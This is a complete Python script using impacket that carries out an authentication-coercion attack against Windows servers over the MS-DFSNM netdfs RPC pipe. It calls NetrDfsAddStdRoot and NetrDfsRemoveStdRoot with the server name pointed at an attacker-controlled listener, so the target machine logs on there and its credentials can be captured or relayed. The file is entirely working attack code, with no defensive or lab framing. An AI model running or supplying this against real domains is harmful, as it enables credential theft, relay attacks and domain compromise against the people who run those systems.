#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Ask a server by RPC to fetch something from another machine, so that it logs on there.

usage: coerce.py SERVER LISTENER DOMAIN USER   (password in $TOWN_PASSWORD)
MS-DFSNM 3.1.4.3.4/5: NetrDfsAddStdRoot, NetrDfsRemoveStdRoot over \\pipe\\netdfs.
"""
import os
import sys

from impacket.dcerpc.v5 import transport
from impacket.dcerpc.v5.dtypes import DWORD, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.smb3structs import SMB2_DIALECT_21
from impacket.uuid import uuidtup_to_bin

NETDFS = uuidtup_to_bin(("4FC742E0-4A10-11CF-8273-00AA004AE673", "3.0"))


class NetrDfsAddStdRoot(NDRCALL):
    opnum = 12
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("Comment", WSTR), ("ApiFlags", DWORD))


class NetrDfsRemoveStdRoot(NDRCALL):
    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD))


def main():
    server, listener, domain, user = sys.argv[1:]
    way = transport.DCERPCTransportFactory(rf"ncacn_np:{server}[\pipe\netdfs]")
    way.preferred_dialect(SMB2_DIALECT_21)
    way.set_credentials(user, os.environ["TOWN_PASSWORD"], domain)
    rpc = way.get_dce_rpc()
    rpc.connect()
    rpc.bind(NETDFS)
    for kind in (NetrDfsAddStdRoot, NetrDfsRemoveStdRoot):
        call = kind()
        call["ServerName"], call["RootShare"] = listener + "\0", "kyoyu\0"
        call["ApiFlags"] = 0
        if kind is NetrDfsAddStdRoot:
            call["Comment"] = "\0"
        try:
            rpc.request(call)
        except DCERPCException as answer:
            print(answer)


main()
